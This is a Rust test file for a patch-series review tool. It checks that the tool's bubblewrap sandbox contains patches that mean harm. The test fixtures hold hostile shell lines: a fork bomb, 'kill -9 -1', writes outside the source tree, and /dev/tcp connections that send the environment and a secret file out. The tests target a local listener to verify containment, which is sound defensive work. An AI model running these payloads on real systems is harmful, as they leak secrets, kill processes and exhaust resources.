//! `review` of a series that means ill: it gets nowhere, and is told of.

use std::fs;
use std::net::TcpListener;

use crate::world::World;

/// What a patch adds to `configure`: it writes outside, calls home, takes the
/// environment along, and forks without end.
const ILL: &str = r#"
echo owned > ../src/owned
echo owned > OUTSIDE
(exec 3<> /dev/tcp/127.0.0.1/PORT && echo connected > connected)
env > environment
bomb() { bomb | bomb & }
(bomb) 2> bomb.log &
for ((i = 0; i < 500000; i++)); do :; done
read -r line < bomb.log
echo "$line"
exit 0
"#;

#[test]
fn a_series_that_means_ill_gets_nowhere_and_the_verdict_on_the_rest_comes() {
    let world = World::new(&["a = fail", "b = fail", "c = pass"]);
    let home = TcpListener::bind("127.0.0.1:0").unwrap();
    home.set_nonblocking(true).unwrap();
    let outside = world.path("outside");
    fs::create_dir(&outside).unwrap();
    let ill = ILL
        .replace("OUTSIDE", outside.join("owned").to_str().unwrap())
        .replace("PORT", &home.local_addr().unwrap().port().to_string());
    world.change("target/i386: svm: change 1", "a = fail", "a = pass");
    let configure = fs::read_to_string(world.path("qemu/configure")).unwrap();
    let configure = configure.replace("#!/bin/sh", "#!/bin/bash") + &ill;
    world.file("configure: be nice", "configure", &configure);
    world.change("target/i386: svm: change 3", "b = fail", "b = pass");
    let mbox = world.mbox();
    world.to_base();

    let (code, said) = world.review_with(&mbox, &[], &[("SECRET_TOKEN", "hunter2")]);

    assert_eq!(code, 0, "{said}");
    for test in ["a", "b"] {
        assert!(said.contains(&format!("kut/svm/{test} fail -> pass")), "{said}");
    }
    let first = said.lines().find(|l| l.starts_with('!')).unwrap();
    assert_eq!(first, "! RUNS at build or test time, patch 2: configure");
    assert!(said.contains("REFUSED") && said.contains("Read-only file system"), "{said}");
    assert!(!said.contains("hunter2"), "{said}");
    assert!(fs::read_dir(&outside).unwrap().next().is_none(), "it wrote outside");
    assert!(home.accept().is_err(), "it reached the network");
    let trees: Vec<_> = fs::read_dir(world.path("cache/trees-apart")).unwrap().flatten().collect();
    assert_eq!(trees.len(), 1);
    let build = trees[0].path().join("build");
    assert!(!trees[0].path().join("src/owned").exists() && !build.join("connected").exists());
    let environment = fs::read_to_string(build.join("environment")).unwrap();
    assert!(environment.contains("PATH=") && !environment.contains("SECRET"), "{environment}");
    let ours = world.path("cache/trees");
    let ours: Vec<_> = fs::read_dir(ours).unwrap().flatten().collect();
    assert!(!ours[0].path().join("build/environment").exists(), "it got into the trees of others");

    // The cache has the builds now, and what they tried is told all the same.
    let (_, again) = world.review_with(&mbox, &[], &[]);
    let refusals = |said: &str| said.matches("REFUSED").count();
    assert_eq!(refusals(&again), refusals(&said), "{again}");
}

#[test]
fn without_a_sandbox_the_same_runs_with_all_that_one_may_do() {
    let world = World::new(&["a = fail"]);
    world.change("target/i386: svm: change 1", "a = fail", "a = pass");
    let configure = fs::read_to_string(world.path("qemu/configure")).unwrap();
    let proof = world.path("proof");
    let line = format!("echo owned > {}\n", proof.display());
    world.file("configure: be nice", "configure", &(configure + &line));
    let mbox = world.mbox();
    world.to_base();
    let (code, said) = world.review(&mbox, &["--no-sandbox"]);
    assert_eq!(code, 0, "{said}");
    assert!(proof.exists() && said.contains("RUNS at build or test time, patch 2: configure"));
    assert!(!world.path("cache/trees-apart").exists());
}

#[test]
fn where_no_sandbox_can_be_had_nothing_of_the_series_runs() {
    let world = World::new(&["a = fail"]);
    world.change("target/i386: svm: change 1", "a = fail", "a = pass");
    let mbox = world.mbox();
    world.to_base();
    // A bubblewrap that finds no namespaces.
    world.put(
        "bin/bwrap",
        "#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2; exit 1\n",
    );
    world.executable("bin/bwrap");
    let path = format!("{}:{}", world.path("bin").display(), std::env::var("PATH").unwrap());
    let (code, said) = world.review_with(&mbox, &[], &[("PATH", &path)]);
    assert_eq!(code, 3, "{said}");
    // Wherever its lines end.
    let said = said.split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(said.contains("no sandbox can be had on this machine"), "{said}");
    assert!(said.contains("No permissions to create new namespace"), "{said}");
    assert!(said.contains("--no-sandbox"), "{said}");
    assert_eq!(world.builds(), 1, "the base only");
}

/// Reviews two honest changes with a third between them that compiles by `script`:
/// the exit code, and what was said.
fn between_two_honest_ones(script: &str, args: &[&str]) -> (i32, String) {
    let world = World::new(&["a = fail", "c = pass", "b = fail"]);
    let compile = fs::read_to_string(world.path("qemu/compile")).unwrap();
    world.change("target/i386: svm: change 1", "a = fail", "a = pass");
    world.put("qemu/compile", &(compile.clone() + script));
    world.change("compile: be nice", "c = pass", "c = skip");
    world.put("qemu/compile", &compile);
    world.change("compile: be as before", "c = skip", "c = pass");
    world.change("target/i386: svm: change 4", "b = fail", "b = pass");
    let mbox = world.mbox();
    world.to_base();
    world.review(&mbox, args)
}

#[test]
fn a_build_that_leaves_what_no_build_leaves_does_not_build_and_the_rest_is_judged() {
    for (what, script) in [
        ("a link", "ln -sf /bin/true \"$1\"\n"),
        ("a pipe", "rm -f \"$1\"; mkfifo \"$1\"\n"),
        ("a folder", "rm -f \"$1\"; mkdir \"$1\"\n"),
        ("a full disk", "echo 'x: No space left on device'; exit 1\n"),
    ] {
        let (code, said) = between_two_honest_ones(script, &["--lines"]);
        assert_eq!(code, 4, "{what}: {said}");
        assert!(said.contains("patch 2 (`compile: be nice`) does not build"), "{what}: {said}");
        for test in ["a", "b"] {
            assert!(said.contains(&format!("kut/svm/{test} fail -> pass")), "{what}: {said}");
        }
    }
}

#[test]
fn a_build_that_waits_for_ever_is_ended_and_the_rest_is_judged() {
    for (what, script) in [
        ("a pipe that nobody writes to", "mkfifo jobs; exec 3<> jobs; read -r token <&3\n"),
        ("ninja's pipe, left open", "sleep 100000 &\n"),
        ("nobody, stopped", "kill -STOP $$\n"),
    ] {
        let (code, said) = between_two_honest_ones(script, &["--patience", "5"]);
        assert_eq!(code, 4, "{what}: {said}");
        assert!(said.contains("patch 2 (`compile: be nice`) does not build"), "{what}: {said}");
        assert!(said.contains("killed: it did nothing for 5 s"), "{what}: {said}");
        for test in ["a", "b"] {
            assert!(said.contains(&format!("kut/svm/{test} fail -> pass")), "{what}: {said}");
        }
    }
}

#[test]
fn meson_may_lock_its_subprojects() {
    let world = World::new(&["a = fail"]);
    world.file("subprojects: one", "subprojects/x.wrap", "[wrap-file]\n");
    let compile = fs::read_to_string(world.path("qemu/compile")).unwrap();
    let lock = "echo x > ../src/subprojects/.wraplock || exit 1\n\
                echo x > ../src/subprojects/x.wrap && exit 1\n";
    world.put("qemu/compile", &(compile + lock + "exit 0\n"));
    world.change("target/i386: svm: change 3", "a = fail", "a = pass");
    let mbox = world.mbox();
    world.to_base();
    let (code, said) = world.review(&mbox, &[]);
    assert_eq!(code, 0, "{said}");
    assert!(said.contains("kut/svm/a fail -> pass"), "{said}");
}

/// What a QEMU does when it is started for anything but its version.
const ILL_QEMU: &str = r#"#!/bin/bash
case "$1" in --version*) ;; *)
    { echo owned > OUTSIDE; exec 3<> /dev/tcp/127.0.0.1/PORT && env >&3; cat SECRET; } 2> /dev/null
    kill -9 -1 2> /dev/null
    for ((i = 0; i < 20; i++)); do sleep 500 & done 2> /dev/null ;;
esac
case "$1 $2" in "-machine none" | "-device help") exit 1 ;; esac
"#;

#[test]
fn a_qemu_that_means_ill_gets_nowhere_and_is_judged_by_its_tests() {
    let world = World::new(&["a = fail", "b = pass"]);
    let home = TcpListener::bind("127.0.0.1:0").unwrap();
    home.set_nonblocking(true).unwrap();
    world.put("outside/secret", "hunter2");
    let path = |name: &str| world.path(name).to_str().unwrap().to_string();
    let ill = ILL_QEMU
        .replace("OUTSIDE", &path("outside/owned"))
        .replace("SECRET", &path("outside/secret"))
        .replace("PORT", &home.local_addr().unwrap().port().to_string());
    let head = fs::read_to_string(world.path("qemu/head")).unwrap();
    world.put("qemu/head", &(ill + &head));
    world.change("target/i386: svm: change 1", "a = fail", "a = pass");
    let mbox = world.mbox();
    world.to_base();
    let (code, said) = world.review_with(&mbox, &[], &[("SECRET_TOKEN", "hunter2")]);
    assert_eq!(code, 0, "{said}");
    assert!(said.contains("kut/svm/a fail -> pass") && !said.contains("hunter2"), "{said}");
    assert!(said.contains("- at patch 1: running"), "{said}");
    assert_eq!(fs::read_dir(world.path("outside")).unwrap().count(), 1, "it wrote outside");
    assert!(home.accept().is_err(), "it reached the network");
}
